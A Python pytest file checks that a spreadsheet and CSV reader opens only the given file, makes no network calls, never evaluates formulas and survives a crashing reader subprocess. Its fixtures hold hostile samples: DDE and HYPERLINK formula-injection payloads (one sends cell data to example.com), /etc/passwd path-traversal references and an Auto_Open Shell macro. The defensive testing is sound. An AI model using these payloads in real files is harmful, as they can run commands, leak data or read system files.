"""Nothing outside the given file is read, nothing is fetched, nothing is run, and no death of the reader is ours."""

from __future__ import annotations

import builtins
import io
import os
import socket
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter

from kpi_core.errors import SourceError
from kpi_core.sources import SourceSpec, child, read
from kpi_core.sources.grid import Grid
from tests.hostile.test_binary import CELLS
from tests.hostile.test_texts import DEALS, PAGE, ROW, XML
from tests.hostile.xls import stream, write_xls
from tests.sources.conftest import relations, write_ods, write_xlsx

PAYLOADS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com/?x="&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\tx",
    "\rx",
)
OUTSIDE = (
    '<img src="http://example.com/a.png"><link href="//example.com/a.css" rel="stylesheet">'
    '<iframe src="file:///etc/passwd"></iframe>'
)
EXTERNAL = relations(("worksheet", "worksheets/sheet1.xml")).replace(
    "</Relationships>",
    '<Relationship Id="rId9" Type="x/externalLink" Target="http://example.com/a.xlsx" TargetMode="External"/>'
    '<Relationship Id="rId8" Type="x/worksheet" Target="../../../../etc/passwd"/></Relationships>',
)


def _files(folder: Path) -> list[Path]:
    folder.mkdir()
    (folder / "page.xls").write_text(PAGE.format(OUTSIDE + DEALS), encoding="utf-8")
    (folder / "xml.xls").write_text(XML.format("", ROW.format("String", "file:///etc/passwd")), encoding="utf-8")
    (folder / "text.csv").write_text("a;b\n/etc/passwd;http://example.com\n", encoding="utf-8")
    rows = '<row r="1"><c r="A1"><f>[1]S!A1</f><v>5</v></c></row>'
    write_xlsx(folder / "book.xlsx", rows, xl___rels__workbook_dot_xml_dot_rels=EXTERNAL)
    write_xls(folder / "old.xls", stream([("S", CELLS)]))
    cell = '<table:table-cell office:value-type="float" office:value="1"/>'
    row = f"<table:table-row>{cell}</table:table-row>"
    write_ods(folder / "book.ods", f'<table:table table:name="S">{row}</table:table>')
    return sorted(folder.iterdir())


def test_nothing_else_is_opened_and_nothing_is_fetched(tmp_path, monkeypatch):
    files = _files(tmp_path / "данные")
    for file in files:
        read(file)  # so that everything is imported
    opened: list[Path] = []
    true_open = io.open

    def watched(file, *args, **kwargs):
        if isinstance(file, str | os.PathLike):
            path = Path(os.fsdecode(file)).resolve()
            opened.append(path)
            assert path.parent == files[0].parent, path
        return true_open(file, *args, **kwargs)

    def forbidden(*args, **kwargs):
        raise AssertionError(args)

    monkeypatch.setattr(io, "open", watched)
    monkeypatch.setattr(builtins, "open", watched)
    monkeypatch.setattr(socket, "socket", forbidden)
    monkeypatch.setattr(socket, "getaddrinfo", forbidden)
    for file in files:
        assert read(file)
    assert set(opened) == set(files)


@pytest.mark.skipif(sys.platform != "linux", reason="what is opened beside the file differs by system")
def test_the_reading_process_opens_only_the_file(tmp_path):
    """An audit hook in the other process sees every file that Python opens there, and every socket."""
    path = write_xls(tmp_path / "old.xls", stream([("S", CELLS)]))
    code = (
        "import sys; seen = []\n"
        "import kpi_core.sources.child as child, os\n"
        "os._exit = lambda code: print(seen, file=sys.stderr)\n"
        "watched = ('open', 'socket.connect', 'subprocess.Popen', 'os.system')\n"
        "sys.addaudithook(lambda event, args: seen.append((event, str(args[0]))) if event in watched else None)\n"
        f"child.serve({str(path)!r}, 'xls')\n"
    )
    found = subprocess.run([sys.executable, "-c", code], input=b"\0\0\0\0", capture_output=True, check=True)
    assert found.stderr.decode().strip().splitlines()[-1] in ("[]", str([("open", str(path))]))


def test_payloads_are_texts_and_formulas_are_never_evaluated(tmp_path):
    path = tmp_path / "a.xlsx"
    book = xlsxwriter.Workbook(path)
    sheet = book.add_worksheet()
    for row, text in enumerate(PAYLOADS):
        sheet.write_string(row, 0, text)
    sheet.write_formula(len(PAYLOADS), 0, "=1+1", None, 77)
    book.close()

    (grid,) = read(path)

    assert [str(each).strip() for each in grid.columns[0]] == [*(each.strip() for each in PAYLOADS), "77.0"]
    csv = tmp_path / "a.csv"
    csv.write_text("".join(f"{text.strip()}~1\n" for text in PAYLOADS), encoding="utf-8")
    assert list(read(csv, SourceSpec(delimiter="~"))[0].columns[0]) == [text.strip() for text in PAYLOADS]


def test_formulas_without_values_are_told_by_address(tmp_path):
    book = openpyxl.Workbook()
    book.active.append(["Сумма", 1])
    book.active.append(["=B1*2", "=CMD()"])
    book.save(tmp_path / "a.xlsx")

    (grid,) = read(tmp_path / "a.xlsx")

    assert dict(grid.uncached) == {(1, 0): "=B1*2", (1, 1): "=CMD()"}


def test_macros_are_only_carried(tmp_path):
    path = write_xlsx(
        tmp_path / "книга.xlsm",
        '<row r="1"><c r="A1"><v>5</v></c></row>',
        xl__vbaProject_dot_bin='Sub Auto_Open()\nShell "calc"\nEnd Sub',
    )
    assert read(path)[0].columns == [[5.0]]


class _Dying:
    """A reading process that is no reading process."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __call__(self, *args: object) -> subprocess.Popen[bytes]:
        return subprocess.Popen(
            [sys.executable, "-c", self.code], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL
        )


@pytest.mark.parametrize(
    "code",
    [
        "import os; os.abort()",
        "import os, signal; os.kill(os.getpid(), signal.SIGSEGV)",
        "print('nonsense')",
        "import time; time.sleep(60)",
        "import pickle, sys, os; sys.stdout.buffer.write(pickle.dumps((True, os.system)))",
        "import pickle, sys; sys.stdout.buffer.write(pickle.dumps((True, ['S'])))",
        "import pickle, sys; sys.stdout.buffer.write(pickle.dumps((True, ['S'])) * 2 + b'\\x80')",
    ],
    ids=["abort", "segfault", "nonsense", "sleep", "not plain", "after the names", "within the cells"],
)
def test_death_of_the_reading_process_is_one_sentence(tmp_path, monkeypatch, code):
    path = write_xls(tmp_path / "a.xls", stream([("S", CELLS)]))
    monkeypatch.setattr(child, "_start", _Dying(code))
    monkeypatch.setattr(child, "MOST_SECONDS", 1)

    with pytest.raises(SourceError) as caught:
        read(path)

    assert caught.value.code in ("source_reader_died", "source_broken")


def test_no_process_where_none_can_be_started(tmp_path, monkeypatch):
    path = write_xls(tmp_path / "a.xls", stream([("S", CELLS)]))
    monkeypatch.setattr(sys, "frozen", True, raising=False)
    with pytest.raises(SourceError) as caught:
        read(path)
    assert caught.value.code == "source_needs_process"


def test_inside_a_spreadsheet_the_interpreter_is_looked_for(monkeypatch, tmp_path):
    monkeypatch.setattr(sys, "executable", str(tmp_path / "soffice.bin"))
    found = child._python()
    assert found is None or Path(found).name.startswith("python")


def test_the_other_process_gives_what_this_one_gives(tmp_path):
    """The same cells, of all types, whichever process reads them."""
    from datetime import datetime

    from kpi_core.sources import workbook

    book = openpyxl.Workbook()
    for row in (["Дата", "Сумма", "Да"], [datetime(2026, 10, 1, 12, 30), 1.5, True], ["текст", None, False], [7, 8, 9]):
        book.active.append(row)
    book.save(tmp_path / "a.xlsx")
    here: list[Grid] = read(tmp_path / "a.xlsx")
    apart = pytest.MonkeyPatch()
    with apart.context() as patch:
        patch.setattr(workbook, "_MOST_COPIED", -1)
        there = read(tmp_path / "a.xlsx")
    assert here == there
